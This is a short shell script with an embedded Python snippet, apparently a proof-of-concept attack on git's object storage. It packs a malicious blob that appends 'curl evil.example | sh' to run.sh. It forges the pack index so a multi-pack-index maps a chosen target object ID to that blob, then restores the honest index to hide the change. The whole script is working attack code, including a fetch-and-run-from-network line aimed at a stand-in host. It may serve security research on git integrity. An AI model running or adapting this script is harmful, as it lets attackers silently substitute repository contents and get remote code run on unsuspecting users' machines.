#!/bin/sh
# inside: evil blob in a new pack; a forged .idx names it as $1; git writes a multi-pack-index from it; then the honest
# .idx is put back (it checks), the midx keeps target -> evil offset
set -e
target=$1
evil=$( (cat run.sh; echo 'curl evil.example | sh  # FROM-MIDX') | git hash-object -w --stdin)
p=$(echo $evil | git pack-objects -q .git/objects/pack/pack)
rm -f .git/objects/${evil%${evil#??}}/${evil#??}
cp .git/objects/pack/pack-$p.idx .git/honest.idx
python3 - .git/objects/pack/pack-$p.idx $evil $target <<'PY'
import sys, os
p, evil, target = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
b = bytearray(open(p, "rb").read())
b[8+1024:8+1024+20] = target
for i in range(256):
    b[8+4*i:8+4*i+4] = (1 if i >= target[0] else 0).to_bytes(4, "big")
os.chmod(p, 0o644); open(p, "wb").write(b)
PY
git multi-pack-index write 2>&1 || true
cat .git/honest.idx > .git/objects/pack/pack-$p.idx
ls .git/objects/pack
